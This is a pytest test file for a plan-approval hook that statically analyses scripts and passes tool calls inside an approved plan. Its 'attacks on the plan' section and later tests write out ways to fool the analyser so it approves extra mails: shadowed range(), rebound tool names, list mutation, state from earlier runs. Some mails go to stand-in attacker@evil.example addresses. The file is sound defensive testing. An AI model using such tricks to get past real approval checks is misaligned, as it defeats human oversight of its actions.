"""Plan approval (``runtime/approval/plan.py``): static analysis of what a script can call,
and a hook that passes calls inside an approved plan."""

from __future__ import annotations

from typing import Any

import pytest
from toolscript.runtime.approval.hooks import ToolCallRequest
from toolscript.runtime.approval.plan import ANY, PlanApproval, analyze

from toolscript import Decision, Limits, tool


@tool(read_only=True)
def get_revenue(store_id: str, date: str) -> float:
    """Revenue of one store on one day."""
    return {"ST001": 10.0, "ST002": 30.0, "ST003": 20.0}[store_id]


@tool
def send_email(to: str, body: str) -> bool:
    """Send an email."""
    return True


TOOLS = [get_revenue, send_email]

SCRIPT = """
DAY = '2026-08-24'
stores = ['ST001', 'ST002', 'ST003']
revenue = {s: get_revenue(s, DAY) for s in stores}
best = max(revenue, key=revenue.get)
for i in range(2):
    send_email(to='boss@corp.example', body=f'best store: {best}')
best
"""


def test_analysis_lists_tools_values_and_bounds() -> None:
    plan = analyze(SCRIPT, {"get_revenue": ["store_id", "date"], "send_email": ["to", "body"]})
    assert plan.tools == ["get_revenue", "send_email"]
    revenue, email = plan.calls
    assert revenue.args == {"store_id": ("ST001", "ST002", "ST003"), "date": ("2026-08-24",)}
    assert revenue.max_calls == 3
    assert email.args["to"] == ("boss@corp.example",) and email.args["body"] is ANY
    assert email.max_calls == 2
    text = plan.describe()
    assert "get_revenue(store_id in ['ST001', 'ST002', 'ST003'], date='2026-08-24') x <= 3" in text
    assert "send_email(to='boss@corp.example', body=<computed>) x <= 2" in text


def test_unbounded_and_indirect_uses() -> None:
    params = {"get_revenue": ["store_id", "date"], "send_email": ["to", "body"]}
    plan = analyze("while True:\n    get_revenue('ST001', d)\nf = send_email\nf('x', 'y')", params)
    assert plan.max_calls("get_revenue") is None
    assert plan.calls[0].args == {"store_id": ("ST001",), "date": ANY}
    indirect = [c for c in plan.calls if c.tool == "send_email"]
    assert indirect and not indirect[0].exact and plan.max_calls("send_email") is None
    parallel = analyze("parallel(get_revenue, [{'store_id': 'A', 'date': 'd'}, ('B', 'd')])",
                       params)
    assert [c.args["store_id"] for c in parallel.calls] == [("A",), ("B",)]
    assert analyze("def f(:", params).syntax_error


def run_with_plan(make_runtime: Any, code: str, planned: str, fallback: Any = None,
                  accept_computed: Any = ("body",)) -> Any:
    plan = analyze(planned, TOOLS)
    runtime = make_runtime(TOOLS, limits=Limits(tool_timeout_s=5.0))
    with runtime.session() as session:
        runtime.approve = PlanApproval(plan, fallback=fallback, session=session,
                                       accept_computed=accept_computed)
        return session.run(code)


def test_calls_inside_the_plan_pass(make_runtime: Any) -> None:
    result = run_with_plan(make_runtime, SCRIPT, SCRIPT)
    assert result.ok and result.value == "ST002", result.to_dict()
    assert all(c.approved and "inside the approved plan" in c.reason for c in result.tool_calls)


def test_computed_arguments_go_to_the_fallback_unless_accepted(make_runtime: Any) -> None:
    asked: list[dict[str, Any]] = []

    def human(request: ToolCallRequest) -> Decision:
        asked.append(dict(request.args))
        return Decision.deny("not approved")

    result = run_with_plan(make_runtime, SCRIPT, SCRIPT, fallback=human, accept_computed=())
    assert not result.ok
    assert asked == [{"to": "boss@corp.example", "body": "best store: ST002"}]
    assert "computed body" in result.tool_calls[-1].reason


def test_calls_beyond_a_sites_count_are_gated(make_runtime: Any) -> None:
    asked: list[dict[str, Any]] = []

    def human(request: ToolCallRequest) -> Decision:
        asked.append(dict(request.args))
        return Decision.deny("not approved")

    # the planned script itself, fed more loop turns by an earlier run of the session
    code = "for i in range(2):\n    send_email(to='boss@corp.example', body=f'n{i}')\n"
    plan = analyze(code, TOOLS)
    runtime = make_runtime(TOOLS, limits=Limits(tool_timeout_s=5.0))
    with runtime.session() as session:
        runtime.approve = PlanApproval(plan, fallback=human, session=session,
                                       accept_computed=["body"])
        assert session.run("range = lambda n: [0, 1, 2]").ok
        result = session.run(code)
    assert not result.ok  # the third call was denied
    assert [c.approved for c in result.tool_calls] == [True, True, False]
    assert "more calls of send_email with these arguments than planned" in \
        result.tool_calls[-1].reason
    assert asked == [{"to": "boss@corp.example", "body": "n2"}]


# --- attacks on the plan -------------------------------------------------------------

SENT: list[str] = []


@tool
def mail(to: str, body: str) -> str:
    """Send a mail."""
    SENT.append(to)
    return to


CEO = "ceo@corp.example"


def _plan_run(make_runtime: Any, code: str, earlier: str | None = None,
              accept_computed: Any = ("body",)) -> tuple[Any, Any, list[str]]:
    """Run ``code`` under a plan of itself; return (approval, result, mails asked)."""
    SENT.clear()
    asked: list[str] = []

    def human(request: ToolCallRequest) -> Decision:
        asked.append(str(request.args.get("to")))
        return Decision.deny("a human said no")

    plan = analyze(code, [mail])
    runtime = make_runtime([mail], limits=Limits(tool_timeout_s=5.0, max_tool_calls=500))
    with runtime.session() as session:
        approval = PlanApproval(plan, fallback=human, session=session,
                                accept_computed=accept_computed)
        if earlier is not None:
            assert session.run(earlier).ok  # default policy: nothing is mailed here
        runtime.approve = approval
        result = session.run(code)
    return approval, result, asked


ANALYZER_ATTACKS = {
    "match_capture": (
        f"mail(to={CEO!r}, body='quarterly numbers')\n"
        "to = 'team@corp.example'\n"
        "for i in range(20):\n"
        f"    match {CEO!r}:\n"
        "        case to:\n"
        "            pass\n"
        "    mail(to=to, body='x')\n",
        "to=<computed>"),
    "parameter_shadows_constant": (
        "TO = 'team@corp.example'\n"
        f"mail(to={CEO!r}, body='quarterly numbers')\n"
        "def notify(TO):\n"
        "    mail(to=TO, body='x')\n"
        "for i in range(30):\n"
        f"    notify({CEO!r})\n",
        "to=<computed>, body='x') x unbounded"),
    "shadowed_range": (
        f"mail(to={CEO!r}, body='quarterly numbers')\n"
        "range = lambda n: [0] * 40\n"
        "for i in range(1):\n"
        f"    mail(to={CEO!r}, body='x')\n",
        "rebinds 'range'"),
    "list_mutation": (
        f"TARGETS = [{CEO!r}]\n"
        f"TARGETS.extend([{CEO!r}] * 30)\n"
        "for t in TARGETS:\n"
        "    mail(to=t, body='x')\n",
        "to=<computed>, body='x') x unbounded"),
    "list_alias_mutation": (
        f"TARGETS = [{CEO!r}]\n"
        "alias = TARGETS\n"
        "alias *= 31\n"
        "for t in TARGETS:\n"
        "    mail(to=t, body='x')\n",
        "x unbounded"),
    "list_grows_while_iterated": (
        f"TARGETS = [{CEO!r}]\n"
        "for t in TARGETS:\n"
        "    mail(to=t, body='x')\n"
        "    if len(TARGETS) < 31:\n"
        "        TARGETS.append(t)\n",
        "x unbounded"),
    "loop_variable_rebound": (
        "for to in ['team@corp.example']:\n"
        f"    to = {CEO!r}\n"
        "    for i in range(25):\n"
        "        mail(to=to, body='x')\n",
        "to=<computed>"),
    "tool_name_rebound": (
        "real = mail\n"
        "def mail(to, body):\n"
        f"    return [real(to={CEO!r}, body=body) for i in range(40)]\n"
        "mail(to='team@corp.example', body='x')\n",
        "used indirectly"),
}


@pytest.mark.parametrize("attack", sorted(ANALYZER_ATTACKS))
def test_analyzer_misreads_do_not_approve_more(make_runtime: Any, attack: str) -> None:
    code, shown = ANALYZER_ATTACKS[attack]
    approval, _result, asked = _plan_run(make_runtime, code)
    text = approval.describe()
    assert shown in text, text
    proven = sum(c.max_calls or 0 for c in approval.plan.calls
                 if approval.covers(c) and c.args.get("to") == (CEO,))
    assert SENT.count(CEO) <= proven <= 1, (SENT, text)
    assert asked, "the calls the plan could not prove must reach the fallback"


EARLIER_RUN_ATTACKS = {
    # an earlier run of the session redirects every mail to the CEO: the planned
    # script shows one CEO mail and twenty team mails
    "redirected_tool": (
        "real = mail\n"
        "def mail(to, body):\n"
        f"    return real(to={CEO!r}, body=body)\n"),
    # an earlier run makes every range() forty long
    "shadowed_range": "range = lambda *a: [0] * 40\n",
}
PLANNED = (f"mail(to={CEO!r}, body='quarterly numbers')\n"
           "for i in range(20):\n"
           "    mail(to='team@corp.example', body='x')\n")


@pytest.mark.parametrize("attack", sorted(EARLIER_RUN_ATTACKS))
def test_state_left_by_an_earlier_run_does_not_approve_more(make_runtime: Any,
                                                            attack: str) -> None:
    approval, _result, asked = _plan_run(make_runtime, PLANNED, EARLIER_RUN_ATTACKS[attack])
    assert f"mail(to={CEO!r}, body='quarterly numbers') x <= 1" in approval.describe()
    assert SENT.count(CEO) <= 1  # counts are per call site, not pooled per tool
    assert SENT.count("team@corp.example") <= 20
    assert asked  # the rest went to the fallback


def test_a_plan_is_bound_to_its_script_and_its_run(make_runtime: Any) -> None:
    plan = analyze(SCRIPT, TOOLS)
    runtime = make_runtime(TOOLS, limits=Limits(tool_timeout_s=5.0))
    attacks = [f"send_email('attacker{i}@evil.example', 'the numbers')" for i in range(3)]
    with runtime.session() as session:
        runtime.approve = PlanApproval(plan, session=session, accept_computed=["body"])
        first = session.run(SCRIPT)
        later = [session.run(code) for code in attacks]
        copy = session.run(SCRIPT + "\n")  # one character more: another script
        again = session.run(SCRIPT)  # the same text, a later run
        direct = session.call_tool("send_email", {"to": "boss@corp.example", "body": "x"})
    assert first.ok, first.to_dict()
    for result in [*later, copy]:
        assert not result.ok and "another script" in result.tool_calls[0].reason
    assert not again.ok and "not run" in again.tool_calls[0].reason
    assert direct.approved is False and "direct call" in direct.reason


def test_describe_shows_every_argument() -> None:
    names_only = analyze("send_email('attacker@evil.example', 'x')", ["send_email"])
    assert "send_email('attacker@evil.example', 'x')" in names_only.describe()
    approval = PlanApproval(names_only, session="s1")
    assert "asked: positional arguments" in approval.describe()
    known = analyze("send_email('attacker@evil.example', 'x')", TOOLS)
    assert "send_email(to='attacker@evil.example', body='x') x <= 1" in known.describe()
    stars = analyze("args = ['a', 'b']\nsend_email(*args)\nsend_email(**{'to': 'a'})", TOOLS)
    assert [c.exact for c in stars.calls] == [False, False]


@tool
def archive(path: str, recursive: bool = True, *, dry_run: bool = False) -> str:
    """Archive a path."""
    return path


def test_omitted_arguments_are_planned_with_their_defaults(make_runtime: Any) -> None:
    code = "archive('/data')"
    plan = analyze(code, [archive])
    assert "archive(path='/data', recursive=True, dry_run=False) x <= 1" in plan.describe()
    runtime = make_runtime([archive], limits=Limits(tool_timeout_s=5.0))
    with runtime.session() as session:
        runtime.approve = PlanApproval(plan, session=session)
        assert session.run(code).ok
